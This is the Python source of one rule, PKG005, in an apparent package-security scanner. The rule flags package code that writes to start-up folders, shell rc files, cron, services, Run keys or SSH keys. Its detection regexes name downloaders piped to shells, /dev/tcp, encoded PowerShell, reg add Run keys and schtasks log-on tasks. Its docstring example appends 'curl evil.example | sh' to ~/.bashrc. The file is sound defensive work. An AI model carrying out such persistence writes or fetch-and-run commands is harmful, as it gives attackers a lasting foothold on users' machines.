"""PKG005: package code writes to start-up folders, shell rc files, cron, services or SSH keys.

The checks: a file opened for writing, written or copied to a persistence location; a
downloader or downloaded content written into one (through an open handle); a started command
that registers an autostart entry.
"""

from __future__ import annotations

import ast
import re

from outwork.analyzers.packages import data as tables
from outwork.analyzers.packages.facts import CallSite, Command
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.analyzers.packages.signals import clip
from outwork.core.fold import iter_strings
from outwork.core.rules import Confidence, Layer, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)

WRITE_MODES = re.compile(r"[wax+]")
#: Commands that register an autostart entry (registry Run keys, scheduled tasks at log-on).
PERSIST_COMMAND = re.compile(
    r"\breg(\.exe)?\s+add\b.*\\CurrentVersion\\+Run(Once)?\b|"
    r"schtasks(\.exe)?\s+/create\b.*/sc\s+(onlogon|onstart)",
    re.IGNORECASE,
)
#: A command that fetches code and runs it (a downloader piped into a shell, an encoded
#: PowerShell command, a /dev/tcp shell).
FETCH_AND_RUN = re.compile(
    r"(curl|wget|iwr|invoke-webrequest|downloadstring|downloadfile|certutil|bitsadmin|mshta)"
    r"[^\n]*(https?://|\|\s*(ba|z|da)?sh\b|iex)|/dev/tcp/|-e(nc(odedcommand)?)?\s+(?![0-9a-f]+(?![A-Za-z0-9+/=]))[A-Za-z0-9+/=]{16,}",
    re.IGNORECASE,
)


class PersistenceWrite(BehaviourRule):
    """Package code writes to start-up folders, shell rc files, cron, services or SSH keys.

    ## What it finds
    File writes and copies whose destination, after folding, is a persistence location: the
    Windows Startup folder or Run keys, `~/.bashrc` and friends, crontab, systemd units,
    LaunchAgents, `authorized_keys`, `sitecustomize.py` or `.pth` files. Downloaded content or
    a command that fetches and runs code written into one of them, and commands that register an
    autostart entry (`reg add ...\\CurrentVersion\\Run`, `schtasks /create ... /sc onlogon`, or
    `winreg.SetValueEx` in a module naming a Run key), weigh high even in code that only runs
    when called.

    ## Why it matters
    Persistence turns a one-time install into a permanent foothold that survives uninstalling
    the package.

    ## Example
    ```python
    open(os.path.expanduser("~/.bashrc"), "a").write("curl evil.example | sh\\n")
    ```

    ## Remediation
    Do not install the package; inspect and clean the named location on every host where it ran.

    ## References
    - MITRE ATT&CK T1547 (Boot or Logon Autostart Execution),
      T1546.004 (Unix Shell Configuration Modification)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG005"
    name = "persistence-write"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (506,)
    attack = ("T1547", "T1546.004")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    WRITE = Variant("writes to a persistence location", C, H, H, M)
    AUTOSTART = Variant(
        "registers an autostart entry, or writes a downloader into a start-up location",
        C,
        C,
        C,
        H,
    )
    PTH = Variant("writes a .pth start-up hook", M, M, M, L)


def opened(call: CallSite) -> None:
    """``open(path, mode)`` with a mode that writes."""
    node = call.node
    if not node.args:
        return
    path = call.path_text(node.args[0])
    mode_node = (
        node.args[1]
        if len(node.args) > 1
        else next((k.value for k in node.keywords if k.arg == "mode"), None)
    )
    mode = call.fold(mode_node) if mode_node is not None else "r"
    if isinstance(mode, str) and WRITE_MODES.search(mode):
        writes_to(call, path)


def copied(call: CallSite) -> None:
    """``shutil.copy(source, destination)`` and the like."""
    if len(call.node.args) >= 2:
        writes_to(call, call.path_text(call.node.args[1]))


def path_written(call: CallSite, target: ast.expr) -> None:
    """``Path(...).write_text(...)``: the path object's folded text."""
    writes_to(call, " ".join(iter_strings(call.fold(target))))


def writes_to(call: CallSite, path: str) -> None:
    """A write whose destination (folded, or its constant parts) is a persistence location."""
    match = tables.PERSISTENCE_PATH_RE.search(path) if path else None
    if match:
        # start-up hooks of the interpreter itself (.pth) are also how coverage tools and
        # editable installs work: medium alone, while rc files, cron and services are not
        pth = match.group(0).lower().endswith(".pth")
        call.emit(
            PersistenceWrite.PTH if pth else PersistenceWrite.WRITE,
            f"writes to a persistence location {call.ctx.label}",
            clip(path),
            executes=True,
        )


def writes_command_to(call: CallSite, path: str) -> None:
    """``handle.write(data)`` on a handle opened on ``path``: a downloader or hidden shell
    written into a shell rc file, a start-up folder or a crontab runs at every log-in; no
    library writes that, whether or not it is called."""
    match = tables.PERSISTENCE_PATH_RE.search(path) if path else None
    if not match or match.group(0).lower().endswith(".pth"):
        return
    data = call.node.args[0]
    if "net" in call.labels(data):
        what = "downloaded content"
        written = path
    else:
        what = "a command that fetches and runs code"
        written = " ".join(iter_strings(call.fold(data)))
        command = tables.STRONG_COMMAND_RE.search(written) if written else None
        if command is None or FETCH_AND_RUN.search(written) is None:
            return
    call.emit(
        PersistenceWrite.AUTOSTART,
        f"writes {what} into a start-up location ({match.group(0)}) {call.ctx.label}",
        clip(written),
        executes=True,
    )


#: The registry's functions that write a value (``winreg``, Python 2's ``_winreg``).
REGISTRY_WRITES = frozenset(
    {
        f"{module}.{function}"
        for module in ("winreg", "_winreg")
        for function in ("SetValueEx", "SetValue")
    }
)
#: The Run keys: what each log-in starts (``...\\CurrentVersion\\Run``, ``RunOnce``,
#: ``RunServices``), and Winlogon's ``Userinit`` and ``Shell`` values.
_RUN_KEY = re.compile(
    r"CurrentVersion\\+(?:Run(?:Once|Services(?:Once)?)?\b|Winlogon)", re.IGNORECASE
)


def writes_registry(call: CallSite) -> None:
    """``winreg.SetValueEx(key, name, 0, REG_SZ, program)`` in a module that names a Run key
    (the key is opened by path elsewhere in it): a program registered to start at every
    log-in."""
    if not call.facts.module_matches(_RUN_KEY):
        return
    call.emit(
        PersistenceWrite.AUTOSTART,
        f"{call.name}() writes a registry value in a module naming a Run key (a program"
        f" started at every log-in) {call.ctx.label}",
        clip(ast.unparse(call.node)),
        executes=True,
    )


def registers_autostart(call: CallSite, command: Command) -> bool:
    """A started command that registers a program to run at every log-in."""
    if not PERSIST_COMMAND.search(command.text):
        return False
    call.emit(
        PersistenceWrite.AUTOSTART,
        f"{call.name}() registers a program to start at every log-in {call.ctx.label}",
        command.evidence,
        executes=True,
    )
    return True
